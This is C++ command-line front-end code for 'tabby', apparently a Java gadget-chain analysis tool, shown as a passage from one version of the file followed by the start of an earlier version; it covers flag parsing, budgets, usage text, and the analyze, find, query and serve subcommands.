  if (!args.mem_budget.empty()) {
    auto bytes = util::parse_size_bytes(args.mem_budget);
    if (!bytes.ok()) {
      return "bad --mem-budget value: " + args.mem_budget + " (" + bytes.error().message + ")";
    }
    if (bytes.value() == 0) return "bad --mem-budget value: 0 (budget must be positive)";
    args.budgets.mem = bytes.value();
  }
  for (const std::string& budget : args.phase_budgets) {
    std::size_t eq = budget.find('=');
    if (eq == std::string::npos || eq == 0) {
      return "bad --phase-budget value: " + budget + " (expected PHASE=VALUE)";
    }
    std::string phase = budget.substr(0, eq);
    std::string value = budget.substr(eq + 1);
    // finder-mem is a byte size, every other phase is a wall-clock duration.
    if (phase == "finder-mem") {
      auto bytes = util::parse_size_bytes(value);
      if (!bytes.ok()) return "bad --phase-budget value: " + budget + " (" + bytes.error().message + ")";
      if (bytes.value() == 0) return "bad --phase-budget value: " + budget + " (budget must be positive)";
      args.budgets.finder_mem = bytes.value();
      continue;
    }
    auto ms = util::parse_duration_ms(value);
    if (!ms.ok()) return "bad --phase-budget value: " + budget + " (" + ms.error().message + ")";
    if (phase == "load") {
      args.budgets.load = std::chrono::milliseconds{ms.value()};
    } else if (phase == "finder") {
      args.budgets.finder = std::chrono::milliseconds{ms.value()};
    } else if (phase == "verify") {
      args.budgets.verify = std::chrono::milliseconds{ms.value()};
    } else {
      return "unknown --phase-budget phase: " + phase +
             " (known phases: load, finder, finder-mem, verify)";
    }
  }
  return "";
}

/// Anchors an optional budget as a Deadline starting now.
util::Deadline maybe_after(const std::optional<std::chrono::milliseconds>& budget) {
  return budget.has_value() ? util::Deadline::after(*budget) : util::Deadline{};
}

/// Process-wide memory ledger for one command, or nullptr when --mem-budget
/// is unset (the governed paths take their zero-cost branch).
std::unique_ptr<util::MemoryBudget> make_budget(const Args& args) {
  if (!args.budgets.mem.has_value()) return nullptr;
  return std::make_unique<util::MemoryBudget>(static_cast<std::size_t>(*args.budgets.mem));
}

Args parse_args(const std::vector<std::string>& raw) {
  Args args;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    const std::string& a = raw[i];
    if (!util::starts_with(a, "--")) {
      args.positional.push_back(a);
      continue;
    }
    const FlagSpec* spec = nullptr;
    for (const FlagSpec& candidate : kFlags) {
      if (a == candidate.name) {
        spec = &candidate;
        break;
      }
    }
    if (spec == nullptr) {
      args.error = "unknown flag: " + a;
      return args;
    }
    if (spec->kind == FlagSpec::Kind::Switch) {
      args.*(spec->toggle) = spec->switch_value;
      continue;
    }
    if (i + 1 >= raw.size()) {
      args.error = "missing value for " + a;
      return args;
    }
    const std::string& value = raw[++i];
    if (spec->kind == FlagSpec::Kind::Text) {
      args.*(spec->text) = value;
      continue;
    }
    if (spec->kind == FlagSpec::Kind::Multi) {
      (args.*(spec->multi)).push_back(value);
      continue;
    }
    util::Result<int> parsed = util::parse_int(value);
    if (!parsed.ok() || parsed.value() < spec->min) {
      args.error = "bad " + a + " value: " + value;
      return args;
    }
    args.*(spec->count) = parsed.value();
  }
  args.error = parse_budgets(args);
  return args;
}

int usage(std::ostream& err) {
  err << "usage:\n"
         "  tabby list\n"
         "  tabby gen <component-or-scene> --out DIR\n"
         "  tabby analyze JAR... [--store FILE] [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby find JAR... [--depth N] [--verify] [--verify-workers N] [--cache DIR]\n"
         "                    [--no-frozen] [--jobs N] [--workers N]\n"
         "  tabby query JAR... \"MATCH ... RETURN ...\" [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby query --store FILE \"MATCH ... RETURN ...\" [--explain] [--no-plan]\n"
         "  tabby cache DIR [--prune]\n"
         "  tabby serve SOCKET [--cache DIR] [--jobs N] [--workers N] [--mem-budget SIZE]\n"
         "                     [--max-resident N] [--no-jdk]\n"
         "  tabby client SOCKET (open|find|query|stats|evict|shutdown) [ARG...]\n"
         "\n"
         "  --jobs N      worker threads for the parallel stages (default: all\n"
         "                hardware threads; 1 = serial). Output is identical at\n"
         "                any job count.\n"
         "  --workers N   crash-isolated finder: dispatch sink searches to N\n"
         "                supervised forked worker processes (default 0 = in\n"
         "                process). A crashed or hung worker is respawned and its\n"
         "                shard retried; a shard that exhausts retries degrades\n"
         "                (exit 3) instead of killing the run. Output is\n"
         "                byte-identical to --workers 0 at any N.\n"
         "  --verify      `tabby find` only: re-validate every found chain in\n"
         "                the runtime mini-VM (docs/ROBUSTNESS.md, \"Runtime\n"
         "                re-validation\"). Each chain gets one verdict:\n"
         "                EFFECTIVE, REFUTED, or UNCONFIRMED(reason) when the\n"
         "                VM could not decide (budget | timeout | crash |\n"
         "                fault) — undecided chains are kept and the run\n"
         "                degrades (exit 3; --strict: 1). With --cache,\n"
         "                verdicts are cached and warm runs skip re-execution.\n"
         "  --verify-workers N\n"
         "                crash-isolated verification: replay chains in N\n"
         "                supervised forked verifier processes (default 0 =\n"
         "                in-process shards on the --jobs pool). A VM crash or\n"
         "                hang on one chain demotes that chain to UNCONFIRMED\n"
         "                instead of killing the run. Verdicts are\n"
         "                byte-identical at any N.\n"
         "  --cache DIR   incremental analysis cache: per-archive fragments plus\n"
         "                whole-classpath CPG snapshots, keyed by content digests.\n"
         "                A warm run on an unchanged classpath skips recomputation\n"
         "                and produces identical output.\n"
         "  --frozen / --no-frozen\n"
         "                find/query: run the search over the frozen CSR graph\n"
         "                snapshot (default on; see docs/GRAPH.md). With --cache\n"
         "                the frame is persisted next to the snapshot and warm\n"
         "                runs mmap it zero-copy, skipping the graph decode.\n"
         "                Output is byte-identical either way (including under\n"
         "                --verify); a corrupt cached frame falls back to the\n"
         "                graph store.\n"
         "  --trace FILE  write a Chrome trace-event JSON of the run (open in\n"
         "                chrome://tracing or https://ui.perfetto.dev; one track\n"
         "                per worker thread). Does not change any output.\n"
         "  --metrics     print per-phase span timings and the counter catalog\n"
         "                on stderr after the command.\n"
         "  --deadline D  whole-run wall-clock budget (e.g. 500ms, 30s, 5m).\n"
         "                Cooperative: stages stop at the next unit boundary and\n"
         "                the run reports what it skipped.\n"
         "  --mem-budget SIZE\n"
         "                byte budget for the run (e.g. 64m, 2g). The finder\n"
         "                prunes its lowest-priority frontier branches instead of\n"
         "                growing past the budget; affected sinks are reported\n"
         "                partial (exit 3), chains found so far are kept.\n"
         "  --phase-budget PHASE=V\n"
         "                per-phase budget on top of --deadline/--mem-budget;\n"
         "                phases: load (archive decode, duration), finder\n"
         "                (per-sink search, duration), finder-mem (frontier byte\n"
         "                pool, size), verify (runtime re-validation, duration).\n"
         "                Repeatable.\n"
         "  --explain     `tabby query` only: print the compiled query plan\n"
         "                (start selection, estimates, pushdowns) before the\n"
         "                rows. Purely additive — rows are unchanged.\n"
         "  --no-plan     `tabby query` only: skip the cost-based planner and\n"
         "                run the naive evaluator. Escape hatch; output is\n"
         "                byte-identical either way, only speed differs.\n"
         "  --max-resident N\n"
         "                `tabby serve` only: cap the number of resident\n"
         "                analyses; least-recently-used idle entries are\n"
         "                evicted past it (bytes are governed by --mem-budget\n"
         "                regardless; see docs/SERVING.md).\n"
         "  --strict      fail on the first malformed input or exceeded budget\n"
         "                instead of quarantining it (exit 1 instead of 3).\n"
         "  --prune       `tabby cache` only: delete the corrupt and orphaned\n"
         "                entries the audit finds (they rebuild on the next run).\n"
         "\n"
         "exit codes:\n"
         "  0  clean run\n"
         "  1  fatal error (nothing usable produced)\n"
         "  2  usage error\n"
         "  3  completed with degradation: quarantined inputs, an expired\n"
         "     deadline, memory-pressure pruning, partial sink searches, or\n"
         "     chains left UNCONFIRMED by runtime re-validation (details on\n"
         "     stderr)\n";
  return 2;
}

bool write_bytes(const std::vector<std::byte>& bytes, const fs::path& path, std::ostream& err) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) {
    err << "error: cannot write " << path.string() << "\n";
    return false;
  }
  return true;
}

/// Engine-lifetime configuration from the flag set: the pool, cache and
/// budget that a one-shot command builds fresh and `tabby serve` keeps for
/// its whole life. One helper, every subcommand — the knobs can no longer
/// drift apart between analyze/find/query/serve.
pipeline::EngineOptions engine_options(const Args& args) {
  pipeline::EngineOptions options;
  options.jobs = args.jobs;
  options.cache_dir = args.cache_dir;
  options.memory_budget_bytes = static_cast<std::size_t>(args.budgets.mem.value_or(0));
  options.max_resident = static_cast<std::size_t>(args.max_resident);
  options.with_jdk = args.with_jdk;
  options.use_frozen = args.frozen;
  return options;
}

/// The per-request ExecContext from the flag set. The CLI defaults to
/// quarantine (a partial answer with a degradation report and exit 3 beats
/// no answer on a big real-world classpath); --strict restores the library
/// default of failing on the first malformed unit. The whole-run deadline is
/// anchored here — when the budgeted work is about to start — while the
/// phase budgets stay durations that open()/find() anchor themselves.
pipeline::ExecContext exec_context(const Args& args) {
  pipeline::ExecContext ctx;
  ctx.deadline = maybe_after(args.budgets.run);
  ctx.load_budget = args.budgets.load;
  ctx.finder_budget = args.budgets.finder;
  ctx.policy =
      args.strict ? pipeline::FailurePolicy::kStrict : pipeline::FailurePolicy::kQuarantine;
  ctx.max_depth = args.depth;
  // finder-mem= carves a dedicated frontier pool; otherwise the whole
  // --mem-budget doubles as the pool. Shard caps come from the pool size
  // alone, so the chain set is identical at any --jobs count.
  ctx.frontier_byte_pool = static_cast<std::size_t>(
      args.budgets.finder_mem.value_or(args.budgets.mem.value_or(0)));
  ctx.use_planner = args.plan;
  // Crash-isolated finder execution: shards run in forked worker processes
  // whose failures degrade (exit 3) instead of killing the run. Output is
  // byte-identical to --workers 0 at any count.
  ctx.workers = args.workers;
  // The verify post-pass: supervised runtime re-validation of every found
  // chain, with its own phase budget and (optionally) its own worker pool.
  ctx.verify = args.verify;
  ctx.verify_workers = args.verify_workers;
  ctx.verify_budget = args.budgets.verify;
  return ctx;
}

/// Renders a pipeline outcome's preamble (warnings and degradation lines to
/// err, cache line to out).
void report_outcome(const pipeline::Outcome& outcome, std::ostream& out, std::ostream& err) {
  for (const std::string& warning : outcome.warnings) err << "warning: " << warning << "\n";
  err << outcome.degradation.to_string();
  if (!outcome.cache_line.empty()) out << outcome.cache_line << "\n";
}

/// Exit code for a command whose pipeline half succeeded: 3 when anything
/// was degraded, else 0.
int degradation_exit(const pipeline::Outcome& outcome) {
  return outcome.degradation.degraded() ? 3 : 0;
}

int cmd_list(std::ostream& out) {
  out << "components (Table IX):\n";
  for (const std::string& name : corpus::component_names()) out << "  " << name << "\n";
  out << "scenes (Table X):\n";
  for (const std::string& name : corpus::scene_names()) out << "  " << name << "\n";
  out << "stress fixtures:\n"
         "  fanout-stress\n";
  return 0;
}

int cmd_gen(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() != 2 || args.out_dir.empty()) {
    err << "usage: tabby gen <component-or-scene> --out DIR\n";
    return 2;
  }
  const std::string& name = args.positional[1];
  std::error_code ec;
  fs::create_directories(args.out_dir, ec);

  std::vector<jar::Archive> archives;
  const auto& components = corpus::component_names();
  const auto& scenes = corpus::scene_names();
  if (std::find(components.begin(), components.end(), name) != components.end()) {
    corpus::Component component = corpus::build_component(name);
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(std::move(component.jar));
  } else if (std::find(scenes.begin(), scenes.end(), name) != scenes.end()) {
    archives = corpus::build_scene(name).jars;
  } else if (name == "fanout-stress") {
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(corpus::fanout_stress_archive());
  } else {
    err << "error: unknown component or scene: " << name << "\n";
    return 1;
  }

  for (const jar::Archive& archive : archives) {
    std::string file = archive.meta.name;
    for (char& c : file) {
      if (c == '/' || c == ' ' || c == '(' || c == ')') c = '_';
    }
    if (!util::ends_with(file, ".tjar")) file += ".tjar";
    fs::path path = fs::path(args.out_dir) / file;
    auto status = jar::write_archive_file(archive, path);
    if (!status.ok()) {
      err << "error: " << status.error().to_string() << "\n";
      return 1;
    }
    out << "wrote " << path.string() << " (" << archive.classes.size() << " classes)\n";
  }
  return 0;
}

int cmd_analyze(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby analyze JAR... [--store FILE]\n";
    return 2;
  }
  pipeline::Engine engine(engine_options(args));
  pipeline::OpenOptions oopts;
  oopts.need_graph_bytes = !args.store.empty();
  oopts.use_frozen = false;  // analyze reports stats / store bytes; no CSR freeze
  auto result =
      engine.open({args.positional.begin() + 1, args.positional.end()}, exec_context(args), oopts);
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  const pipeline::Outcome& outcome = result.value()->outcome();
  report_outcome(outcome, out, err);
  out << "classes:  " << outcome.stats.class_nodes << "\n"
      << "methods:  " << outcome.stats.method_nodes << "\n"
      << "edges:    " << outcome.stats.relationship_edges << " (" << outcome.stats.call_edges
      << " CALL, " << outcome.stats.alias_edges << " ALIAS)\n"
      << "sources:  " << outcome.stats.source_methods << "\n"
      << "sinks:    " << outcome.stats.sink_methods << "\n"
      << "pruned:   " << outcome.stats.pruned_call_sites << " uncontrollable call sites\n"
      << "build:    " << util::format_double(outcome.stats.build_seconds, 3) << " s\n";
  if (!args.store.empty()) {
    // Write the serialized bytes directly: on a warm run these are the
    // snapshot's embedded store, byte-identical to the cold run's output.
    if (!write_bytes(outcome.graph_bytes, args.store, err)) return 1;
    out << "graph store written to " << args.store << "\n";
  }
  return degradation_exit(outcome);
}

int cmd_find(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby find JAR... [--depth N] [--verify]\n";
    return 2;
  }
  pipeline::Engine engine(engine_options(args));
  pipeline::ExecContext ctx = exec_context(args);
  pipeline::OpenOptions oopts;
  oopts.need_program = args.verify;
  // The verify post-pass reads alias adjacency through finder::AliasView, so
  // --verify composes with either representation — no store pin needed.
  oopts.use_frozen = args.frozen;
  auto result = engine.open({args.positional.begin() + 1, args.positional.end()}, ctx, oopts);
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  const pipeline::Analysis& analysis = *result.value();
  const pipeline::Outcome& outcome = analysis.outcome();
  report_outcome(outcome, out, err);

  // One call is the whole finder orchestration the CLI used to hand-roll:
  // depth, deadline folding, frontier pool, frozen/store dispatch, and a
  // DegradationReport that already merges the finder's partial view.
  pipeline::FindResult found = analysis.find(ctx);
  const finder::FinderReport& report = found.report;

  out << report.chains.size() << " gadget chain(s), "
      << util::format_double(report.search_seconds, 3) << " s search\n\n";
  for (std::size_t i = 0; i < report.chains.size(); ++i) {
    out << report.chains[i].to_string();
    if (found.verified) {
      out << "  auto-verify: " << finder::verdict_line(found.verify.verdicts[i]) << "\n";
    }
    out << "\n";
  }
  if (found.verified) {
    out << found.verify.effective << "/" << report.chains.size() << " chains confirmed effective";
    if (found.verify.unconfirmed > 0) {
      out << ", " << found.verify.unconfirmed << " unconfirmed";
    }
    out << "\n";
  }
  const bool partial = report.partial();
  const bool unconfirmed = found.verified && found.verify.unconfirmed > 0;
  if (args.strict && partial) {
    err << "error: finder budget exceeded (" << report.partial_sinks.size()
        << " sink search(es) incomplete)\n";
    return 1;
  }
  if (args.strict && unconfirmed) {
    err << "error: runtime re-validation left " << found.verify.unconfirmed
        << " chain(s) UNCONFIRMED\n";
    return 1;
  }
  for (const finder::PartialSink& sink : report.partial_sinks) {
    err << finder::degraded_line(sink) << "\n";
  }
  if (found.verified) {
    // One degraded line per undecided chain, in chain order — the same
    // machinery (and exit-code contract) as partial sink searches.
    for (std::size_t i = 0; i < report.chains.size(); ++i) {
      const finder::ChainVerdict& verdict = found.verify.verdicts[i];
      if (verdict.verdict == finder::Verdict::Unconfirmed) {
        err << finder::degraded_line(report.chains[i], verdict) << "\n";
      }
    }
  }
  if (partial || unconfirmed) return 3;
  return found.degradation.degraded() ? 3 : 0;
}

int cmd_cache(const Args& args, std::ostream& out, std::ostream& err) {
  std::string dir = args.cache_dir;
  if (dir.empty() && args.positional.size() == 2) dir = args.positional[1];
  if (dir.empty() || args.positional.size() > 2) {
    err << "usage: tabby cache DIR [--prune]   (or: tabby cache --cache DIR [--prune])\n";
    return 2;
  }
  auto report = cache::audit_cache(dir, args.prune);
  if (!report.ok()) {
    err << "error: " << report.error().to_string() << "\n";
    return 1;
  }
  out << report.value().to_string();
  // Clean store, or a dirty one that --prune just healed: exit 0. Findings
  // left on disk: exit 3, the same "usable but degraded" contract as a run.
  if (report.value().clean()) return 0;
  return args.prune ? 0 : 3;
}

int cmd_query(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby query (JAR...|--store FILE) \"MATCH ...\"\n";
    return 2;
  }
  std::string query_text = args.positional.back();
  if (!args.store.empty()) {
    // Direct store mode never runs the pipeline: load the serialized graph,
    // query it, done. (The engine is for classpath-keyed analyses.)
    auto loaded = graph::load(args.store);
    if (!loaded.ok()) {
      err << "error: " << loaded.error().to_string() << "\n";
      return 1;
    }
    std::unique_ptr<util::ThreadPool> pool = pipeline::make_pool(args.jobs);
    std::unique_ptr<util::MemoryBudget> budget = make_budget(args);
    cypher::QueryOptions qopts;
    qopts.use_planner = args.plan;
    qopts.executor = pool.get();
    qopts.memory = budget.get();
    auto query_result = cypher::run_query(loaded.value(), query_text, qopts);
    if (!query_result.ok()) {
      err << "query error: " << query_result.error().to_string() << "\n";
      return 1;
    }
    if (args.explain) out << query_result.value().plan;
    out << query_result.value().to_string(loaded.value()) << "("
        << query_result.value().rows.size() << " row(s))\n";
    return 0;
  }
  if (args.positional.size() < 3) {
    err << "usage: tabby query JAR... \"MATCH ...\"\n";
    return 2;
  }
  pipeline::Engine engine(engine_options(args));
  pipeline::ExecContext ctx = exec_context(args);
  pipeline::OpenOptions oopts;
  oopts.use_frozen = args.frozen;
  auto result = engine.open({args.positional.begin() + 1, args.positional.end() - 1}, ctx, oopts);
  if (!result.ok()) {
    err << "error: " << result.error().to_string() << "\n";
    return 1;
  }
  const pipeline::Analysis& analysis = *result.value();
  report_outcome(analysis.outcome(), out, err);
  // Queries print byte-identically over either representation (and with or
  // without the planner); the frozen path just reads sorted CSR segments
  // instead of adjacency vectors.
  auto query_result = analysis.query(query_text, ctx);
  if (!query_result.ok()) {
    err << "query error: " << query_result.error().to_string() << "\n";
    return 1;
  }
  if (args.explain) out << query_result.value().plan;
  out << analysis.render(query_result.value());
  return degradation_exit(analysis.outcome());
}

int cmd_serve(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() != 2) {
    err << "usage: tabby serve SOCKET [--cache DIR] [--jobs N] [--workers N] "
           "[--mem-budget SIZE] [--max-resident N]\n";
    return 2;
  }
  serve::ServeOptions options;
  options.engine = engine_options(args);
  options.default_workers = args.workers;
  auto status = serve::serve(args.positional[1], std::move(options), out, err);
  if (!status.ok()) {
    err << "error: " << status.error().to_string() << "\n";
    return 1;
  }
  return 0;
}

/// The request fields shared by every client op: phase budgets, policy and
/// representation, translated from the same flags the one-shot commands use.
serve::Json client_request_base(const Args& args) {
  serve::Json request = serve::Json::object();
  if (args.budgets.run.has_value()) {
    request.set("deadline_ms", static_cast<std::int64_t>(args.budgets.run->count()));
  }
  if (args.budgets.load.has_value()) {
    request.set("load_ms", static_cast<std::int64_t>(args.budgets.load->count()));
  }
  if (args.budgets.finder.has_value()) {
    request.set("finder_ms", static_cast<std::int64_t>(args.budgets.finder->count()));
  }
  std::uint64_t pool = args.budgets.finder_mem.value_or(args.budgets.mem.value_or(0));
  if (pool != 0) request.set("frontier_pool", pool);
  if (args.strict) request.set("strict", true);
  if (!args.frozen) request.set("use_frozen", false);
  if (args.workers > 0) request.set("workers", static_cast<std::int64_t>(args.workers));
  if (args.verify) request.set("verify", true);
  if (args.verify_workers > 0) {
    request.set("verify_workers", static_cast<std::int64_t>(args.verify_workers));
  }
  if (args.budgets.verify.has_value()) {
    request.set("verify_ms", static_cast<std::int64_t>(args.budgets.verify->count()));
  }
  return request;
}

/// Renders a daemon response with the same stdout/stderr/exit-code contract
/// as the equivalent one-shot command, so scripts (and the CI smoke) can
/// diff the two directly.
int render_client_response(const std::string& op, const Args& args, const serve::Json& response,
                           std::ostream& out, std::ostream& err) {
  if (!response.flag("ok")) {
    err << "error: " << response.str("error", "malformed daemon response") << "\n";
    return response.str("kind") == "usage" ? 2 : 1;
  }
  for (const std::string& warning : response.strings("warnings")) {
    err << "warning: " << warning << "\n";
  }
  if (response.has("cache_line")) out << response.str("cache_line") << "\n";
  if (op == "open") {
    out << "opened " << response.str("fingerprint") << ": "
        << static_cast<std::uint64_t>(response.num("classes")) << " classes, "
        << static_cast<std::uint64_t>(response.num("methods")) << " methods, "
        << static_cast<std::uint64_t>(response.num("edges")) << " edges ("
        << (response.flag("warm") ? "warm" : "cold") << ", "
        << (response.flag("resident") ? "resident" : "transient") << ", "
        << static_cast<std::uint64_t>(response.num("resident_bytes")) << " bytes)\n";
    return response.flag("degraded") ? 3 : 0;
  }
  if (op == "find") {
    auto partial = static_cast<std::uint64_t>(response.num("partial"));
    auto unconfirmed = static_cast<std::uint64_t>(response.num("unconfirmed"));
    if (partial > 0 && args.strict) {
      err << "error: finder budget exceeded (" << partial << " sink search(es) incomplete)\n";
      return 1;
    }
    if (unconfirmed > 0 && args.strict) {
      err << "error: runtime re-validation left " << unconfirmed << " chain(s) UNCONFIRMED\n";
      return 1;
    }
    out << response.str("text");
    for (const std::string& line : response.strings("degraded_lines")) err << line << "\n";
    if (partial > 0 || unconfirmed > 0) return 3;
    return response.flag("degraded") ? 3 : 0;
  }
  if (op == "query") {
    if (response.has("plan")) out << response.str("plan");
    out << response.str("text");
    return response.flag("degraded") ? 3 : 0;
  }
  if (op == "stats") {
    out << "requests:       " << static_cast<std::uint64_t>(response.num("requests")) << "\n"
        << "in_flight:      " << static_cast<std::uint64_t>(response.num("in_flight")) << "\n"
        << "opens:          " << static_cast<std::uint64_t>(response.num("opens")) << "\n"
        << "resident_hits:  " << static_cast<std::uint64_t>(response.num("resident_hits")) << "\n"
        << "evictions:      " << static_cast<std::uint64_t>(response.num("evictions")) << "\n"
        << "over_capacity:  " << static_cast<std::uint64_t>(response.num("over_capacity")) << "\n"
        << "audits:         " << static_cast<std::uint64_t>(response.num("audits")) << "\n"
        << "resident_bytes: " << static_cast<std::uint64_t>(response.num("resident_bytes")) << "\n"
        << "budget_bytes:   " << static_cast<std::uint64_t>(response.num("budget_bytes")) << "\n";
    // Worker-pool churn, shown once any --workers find has run so the
    // common in-process deployment keeps its historical stats bytes.
    if (response.num("dist_workers_spawned") > 0) {
      out << "dist_workers:   " << static_cast<std::uint64_t>(response.num("dist_workers_spawned"))
          << " spawned, " << static_cast<std::uint64_t>(response.num("dist_respawns"))
          << " respawn(s)\n"
          << "dist_failures:  " << static_cast<std::uint64_t>(response.num("dist_crashes"))
          << " crash(es), " << static_cast<std::uint64_t>(response.num("dist_heartbeat_misses"))
          << " heartbeat miss(es)\n"
          << "dist_retries:   " << static_cast<std::uint64_t>(response.num("dist_retries"))
          << " retry(ies), " << static_cast<std::uint64_t>(response.num("dist_reassignments"))
          << " reassignment(s)\n";
    }
    if (const serve::Json* resident = response.find("resident")) {
      out << "resident:       " << resident->items().size() << " analysis(es)\n";
      for (const serve::Json& entry : resident->items()) {
        out << "  " << entry.str("fingerprint") << "  "
            << static_cast<std::uint64_t>(entry.num("bytes")) << " bytes, "
            << static_cast<std::uint64_t>(entry.num("hits")) << " hit(s)\n";
      }
    }
    return 0;
  }
  if (op == "evict") {
    out << "evicted " << static_cast<std::uint64_t>(response.num("evicted")) << " analysis(es)\n";
    return 0;
  }
  if (op == "shutdown") {
    out << "daemon stopping\n";
    return 0;
  }
  return 0;
}

int cmd_client(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 3) {
    err << "usage: tabby client SOCKET (open|find|query|stats|evict|shutdown) [ARG...]\n";
    return 2;
  }
  const std::string& socket_path = args.positional[1];
  const std::string& op = args.positional[2];
  serve::Json request = client_request_base(args);
  request.set("op", op);
  if (op == "open" || op == "find") {
    if (args.positional.size() < 4) {
      err << "usage: tabby client SOCKET " << op << " JAR...\n";
      return 2;
    }
    serve::Json classpath = serve::Json::array();
    for (std::size_t i = 3; i < args.positional.size(); ++i) {
      classpath.push(serve::Json::string(args.positional[i]));
    }
    request.set("classpath", std::move(classpath));
    if (op == "find") request.set("depth", static_cast<std::int64_t>(args.depth));
  } else if (op == "query") {
    if (args.positional.size() < 5) {
      err << "usage: tabby client SOCKET query JAR... \"MATCH ...\"\n";
      return 2;
    }
    serve::Json classpath = serve::Json::array();
    for (std::size_t i = 3; i + 1 < args.positional.size(); ++i) {
      classpath.push(serve::Json::string(args.positional[i]));
    }
    request.set("classpath", std::move(classpath));
    request.set("text", args.positional.back());
    if (args.explain) request.set("explain", true);
    if (!args.plan) request.set("no_plan", true);
  } else if (op == "evict") {
    if (args.positional.size() != 4) {
      err << "usage: tabby client SOCKET evict (FINGERPRINT|all)\n";
      return 2;
    }
    if (args.positional[3] == "all") {
      request.set("all", true);
    } else {
      request.set("fingerprint", args.positional[3]);
    }
  } else if (op != "stats" && op != "shutdown") {
    err << "error: unknown client op: " << op << "\n";
    return 2;
  }
  auto reply = serve::client_request(socket_path, request.dump());
  if (!reply.ok()) {
    err << "error: " << reply.error().to_string() << "\n";
    return 1;
  }
  std::optional<serve::Json> response = serve::Json::parse(reply.value());
  if (!response || !response->is_object()) {
    err << "error: malformed daemon response: " << reply.value() << "\n";
    return 1;
  }
  return render_client_response(op, args, *response, out, err);
}

int dispatch(const Args& args, std::ostream& out, std::ostream& err) {
  const std::string& command = args.positional[0];
  obs::Span span("cli.command");
  if (span.active()) span.attr("command", command);
  if (command == "list") return cmd_list(out);
  if (command == "gen") return cmd_gen(args, out, err);
  if (command == "analyze") return cmd_analyze(args, out, err);
  if (command == "find") return cmd_find(args, out, err);
  if (command == "cache") return cmd_cache(args, out, err);
  if (command == "query") return cmd_query(args, out, err);
  if (command == "serve") return cmd_serve(args, out, err);
  if (command == "client") return cmd_client(args, out, err);
  err << "error: unknown command: " << command << "\n";
  return usage(err);
}

}  // namespace

int run_cli(const std::vector<std::string>& args, std::ostream& out, std::ostream& err) {
  Args parsed = parse_args(args);
  if (!parsed.error.empty()) {
    err << "error: " << parsed.error << "\n";
    return 2;
  }
  if (parsed.positional.empty()) return usage(err);

  // Observability is strictly additive: the tracer only records timings and
  // counts, so every byte of out/err (and any --store file) is identical
  // with and without --trace/--metrics.
  bool observing = parsed.metrics || !parsed.trace_file.empty();
  if (observing) obs::Tracer::instance().enable();
  // Last-resort fail-soft seam: a stray exception anywhere below (worker
  // task faults included) becomes a structured fatal error, never a crash —
  // the invariant the chaos tests sweep for.
  int code;
  try {
    code = dispatch(parsed, out, err);
  } catch (const std::exception& e) {
    err << "error: unhandled exception: " << e.what() << "\n";
    code = 1;
  }
  if (observing) {
    obs::TraceReport report = obs::Tracer::instance().flush();
    obs::Tracer::instance().disable();
    if (parsed.metrics) err << report.metrics_summary();
    if (!parsed.trace_file.empty()) {
      std::ofstream trace(parsed.trace_file, std::ios::trunc);
      trace << report.to_chrome_json();
      if (!trace) {
        err << "error: cannot write trace file " << parsed.trace_file << "\n";
        if (code == 0) code = 1;
      }
    }
  }
  return code;
}

}  // namespace tabby::cli
