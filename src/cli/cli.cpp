#include "cli/cli.hpp"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <memory>

#include "corpus/components.hpp"
#include "corpus/jdk.hpp"
#include "corpus/scenes.hpp"
#include "cpg/builder.hpp"
#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "finder/payload.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "pipeline/pipeline.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::cli {

namespace {

namespace fs = std::filesystem;

struct Args {
  std::vector<std::string> positional;
  std::string store;
  std::string out_dir;
  std::string cache_dir;
  std::string trace_file;
  int depth = 12;
  int jobs = 0;  // 0 = hardware default; 1 = serial (historical pipeline)
  bool verify = false;
  bool with_jdk = true;
  bool metrics = false;
  std::string error;
};

// --- Declarative flag table -----------------------------------------------
//
// One table shared by every subcommand. Each row binds a flag name to an
// Args member; parse_args is a single loop over it, so adding a flag is one
// line here plus a usage() row — no if/else ladder to extend.

struct FlagSpec {
  enum class Kind {
    Text,    // --flag VALUE, stored verbatim
    Count,   // --flag N, checked base-10 parse, must be >= min
    Switch,  // --flag, stores `switch_value`
  };
  const char* name;
  Kind kind;
  std::string Args::* text = nullptr;
  int Args::* count = nullptr;
  int min = 1;
  bool Args::* toggle = nullptr;
  bool switch_value = true;
};

constexpr FlagSpec kFlags[] = {
    {.name = "--store", .kind = FlagSpec::Kind::Text, .text = &Args::store},
    {.name = "--out", .kind = FlagSpec::Kind::Text, .text = &Args::out_dir},
    {.name = "--cache", .kind = FlagSpec::Kind::Text, .text = &Args::cache_dir},
    {.name = "--trace", .kind = FlagSpec::Kind::Text, .text = &Args::trace_file},
    {.name = "--depth", .kind = FlagSpec::Kind::Count, .count = &Args::depth, .min = 1},
    {.name = "--jobs", .kind = FlagSpec::Kind::Count, .count = &Args::jobs, .min = 1},
    {.name = "--verify", .kind = FlagSpec::Kind::Switch, .toggle = &Args::verify},
    {.name = "--no-jdk",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::with_jdk,
     .switch_value = false},
    {.name = "--metrics", .kind = FlagSpec::Kind::Switch, .toggle = &Args::metrics},
};

Args parse_args(const std::vector<std::string>& raw) {
  Args args;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    const std::string& a = raw[i];
    if (!util::starts_with(a, "--")) {
      args.positional.push_back(a);
      continue;
    }
    const FlagSpec* spec = nullptr;
